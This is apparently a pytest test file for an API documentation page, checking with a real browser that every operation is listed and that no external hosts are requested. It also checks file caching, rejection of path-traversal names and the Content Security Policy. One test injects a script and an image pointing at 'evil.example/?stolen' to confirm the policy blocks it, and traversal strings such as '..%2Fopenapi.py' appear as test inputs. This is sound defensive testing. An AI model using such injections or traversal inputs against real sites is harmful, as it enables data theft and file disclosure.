"""The page of the API in a real browser: it shows every operation, asks no other place, and breaks no rule of
its own policy.
"""

import threading

import pytest
from werkzeug.serving import make_server

from tests.serving_app.keys.made_keys import make_keys, server_key


@pytest.fixture
def url(shop):
    server = make_server("127.0.0.1", 0, shop.app, threaded=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def page(browser):
    page = browser.new_page(viewport={"width": 1200, "height": 1000})
    page.complaints, page.requested = [], []
    page.on("console", lambda message: page.complaints.append(message.text))
    page.on("pageerror", lambda error: page.complaints.append(str(error)))
    page.on("request", lambda request: page.requested.append(request.url))
    yield page
    page.close()


def test_the_page_shows_every_operation_and_asks_no_other_place(shop, url, page, tmp_path):
    document = shop.client.get("/openapi.json").json
    page.goto(f"{url}/docs")
    page.wait_for_selector(".opblock")
    shown = page.locator(".opblock").count()
    assert shown == sum(len(methods) for methods in document["paths"].values())
    page.locator(".opblock-summary-control").first.click()
    page.wait_for_selector(".opblock-body .parameters")
    page.screenshot(path=tmp_path / "docs.png")
    assert page.complaints == []
    assert [one for one in page.requested if not one.startswith((f"{url}/", "data:"))] == []


def test_the_policy_stops_a_script_that_somebody_gets_into_the_page(url, page):
    page.goto(f"{url}/docs")
    page.wait_for_selector(".opblock")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "window.wasRun = true";
            document.body.append(script);
            const picture = document.createElement("img");
            picture.src = "https://evil.example/?stolen";
            document.body.append(picture);
        }"""
    )
    page.wait_for_timeout(100)
    assert page.evaluate("window.wasRun") is None
    assert any("Content Security Policy" in one for one in page.complaints)


def test_the_pages_files_may_be_kept(shop):
    answer = shop.client.get("/docs/swagger-ui-bundle.js")
    assert answer.mimetype == "text/javascript" and len(answer.data) > 1_000_000
    again = shop.client.get("/docs/swagger-ui-bundle.js", headers={"If-None-Match": answer.headers["ETag"]})
    assert (again.status_code, again.data) == (304, b"")
    for name in ("index.html", "../openapi.py", "..%2Fopenapi.py", "%2e%2e/x", "swagger-ui.js", "LICENSE"):
        assert shop.client.get(f"/docs/{name}").status_code == 404


def test_the_page_is_there_when_keys_are_needed(shop):
    keys, _ = make_keys(server_key("read"))
    shop.use_stores(keys=keys)
    answer = shop.client.get("/docs", environ_base={"REMOTE_ADDR": "10.0.0.1"})
    assert answer.status_code == 200 and "default-src 'none'" in answer.headers["Content-Security-Policy"]
    assert b"http" not in answer.data.replace(b"<!doctype html>", b"").replace(b"HTTP", b"")
